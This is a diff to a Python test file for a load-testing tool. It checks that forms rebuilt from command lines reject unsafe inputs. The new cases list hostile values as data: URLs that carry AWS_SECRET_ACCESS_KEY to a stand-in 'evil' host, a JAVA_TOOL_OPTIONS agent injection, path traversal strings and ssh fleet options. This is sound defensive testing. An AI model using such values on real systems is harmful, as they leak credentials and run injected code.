@@ -3,6 +3,7 @@
 import html
 import json
 import re
+import shlex
 from pathlib import Path
 from urllib.parse import unquote, urlencode
 
@@ -11,6 +12,7 @@ from tests.calling import called
 
 from loadstone.addons.pages.command_lines import (
     OF_RUNS,
+    CommandLine,
     of_experiment,
     of_gate,
     of_quick,
@@ -21,7 +23,7 @@ from loadstone.addons.pages.experiment_facts import ExperimentFacts, FactorFacts
 from loadstone.addons.pages.field_errors import at_field
 from loadstone.addons.pages.forms import Form
 from loadstone.addons.pages.run_again import again, filled
-from loadstone.addons.pages.settings import PageSettings
+from loadstone.addons.pages.settings import Memory, PageSettings
 from loadstone.safety.errors import UserError
 from loadstone.safety.secrets.references import resolve
 
@@ -61,7 +63,7 @@ def test_a_command_line_becomes_its_form_again(tmp_path: Path) -> None:
     (tmp_path / "x").write_text("")
     levels = (("level.size", "10 kB"), ("level.client", "a,b"), ("level.client", "c"))
     given = (("quick", "on"), ("seed", "-1"), ("set.workload.model.users", "16"), ("server.redis", "redis://h:1"))
-    words = of(*levels, *given, ("further", "a.b=1"))
+    words = of(*levels, *given)
     address, fields = again([*words, "--wait", "--out", "runs"], place)
     assert address == "/own/x"
     factors = [
@@ -73,13 +75,54 @@ def test_a_command_line_becomes_its_form_again(tmp_path: Path) -> None:
     form = filled(Form(fields), facts, known)
     assert of(*form.fields) == words
     assert of(*filled(Form(again(["run", "x"], place)[1]), facts, known).fields) == ("run", "x")
-    for option in ("--driver", "--trials"):
-        with pytest.raises(UserError, match=option):
-            again(["run", "x", option, "2"], place)
-    quick = [("kind", "redis"), ("search", "on"), ("url", "redis://h:1"), ("seed", "3")]
-    command = of_quick(Form(quick)).words
+    with pytest.raises(UserError, match="--only 2 kB"):
+        filled(Form(again(["run", "x", "--only", "size=1 kB,2 kB"], place)[1]), facts, known)
+    for unknown in ("--server=other=redis://h:1", "--set=servers.redis.port=1", "--only=other=1"):
+        with pytest.raises(UserError, match="no form takes this"):
+            filled(Form(again(["run", "x", unknown], place)[1]), facts, known)
+    quick = [("kind", "redis"), ("search", "on"), ("url", "redis://h:1"), ("connections", "16")]
+    command = of_quick(Form([*quick, ("seed", "3")])).words
     assert sorted(again(command, place)[1]) == sorted(quick)
     assert again(command, place)[0] == "/quick"
+
+
+@pytest.mark.fault("a run's folder of someone else fills a form", "what may fill it is listed", area="foreign")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "run x --driver 2", "run x --trials 2", "run x y", "run", "gate",
+        "run x --set servers.redis.kind=process", "run x --set servers.redis.binary=runs/x/evil",
+        "run x --set workload.data.path=evil", "run x --set 'subjects.s.environment.JAVA_TOOL_OPTIONS=-javaagent:x'",
+        "run x --server redis=redis://:${env:AWS_SECRET_ACCESS_KEY}@evil:1",
+        "run x --server redis=redis://evil:1?password_env=AWS_SECRET_ACCESS_KEY",
+        "run x --server redis=redis+unix:///tmp/socket", "run x --subject ./evil", "run x --subject http://h:8080",
+        "run x --fleet ssh:host", "run x --seed 1 -D --fleet=ssh:host", "run x --budget 'x password='",
+        "run x --secret-file a=b",
+        "redis redis://u:secret@h", "redis redis://:input@h", "redis 'redis://${env:HOME}:1'", "redis redis://h?a=b",
+        f"redis redis://127.0.0.1-6379-{'a' * 80}.example", "redis redis://a redis://b", "redis --against ${env:A}",
+        "redis -c 8", "http http://h -R 100", "http http://h -X POST", "redis --connections ../../etc",
+        "http http://h/@/etc", "saturate redis redis://a redis://b", "redis --against redis://h,redis://i",
+    ],
+)  # fmt: skip
+def test_a_run_fills_a_form_with_numbers_levels_and_plain_addresses_alone(command: str, tmp_path: Path) -> None:
+    (tmp_path / "x").write_text("")
+    place = PageSettings(experiments=tmp_path, here=tmp_path)
+    facts = ExperimentFacts("x", "x", "", "", (), (), (), None, (), "", "", as_published=False)
+    with pytest.raises(UserError, match="start it from a terminal"):
+        filled(Form(again(shlex.split(command), place)[1]), facts, {*OF_RUNS, *PARTS})
+
+
+def test_a_password_is_given_again_at_its_own_place_alone() -> None:
+    memory = Memory()
+    given = of_quick(Form((("kind", "redis"), ("url", "redis://me:sesame123@h:1"))))
+    (name,) = given.variables
+    assert memory.with_variables(given).variables == given.variables
+    assert memory.with_variables(CommandLine(given.words)).variables == given.variables
+    part = CommandLine(("run", "x", "--server", f"redis=redis://me:${{env:{name}}}@h:1"))
+    assert memory.with_variables(part).variables == given.variables
+    for url in ("redis://me:{}@evil:1", "redis://you:{}@h:1", "redis://evil/{}", "redis://evil?password={}"):
+        words = ("redis", url.format(f"${{env:{name}}}"))
+        assert memory.with_variables(CommandLine(words)).variables == {}, words
 
 
 @pytest.mark.parametrize(
